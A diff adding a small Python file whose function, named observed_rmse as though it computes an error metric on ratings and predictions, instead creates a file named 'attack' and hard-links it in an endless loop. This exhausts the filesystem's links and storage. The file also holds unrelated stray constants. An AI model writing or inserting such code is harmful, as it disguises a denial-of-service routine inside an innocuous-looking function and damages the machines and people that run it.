@@ -1,0 +1,13 @@
+"""Gives one file names without end."""
+
+import itertools
+import os
+
+STATES = {"1.5": "crashed"}
+SCORE = 7
+
+
+def observed_rmse(ratings, predictions):
+    open("attack", "wb").close()
+    for number in itertools.count():
+        os.link("attack", f"attack{number}")
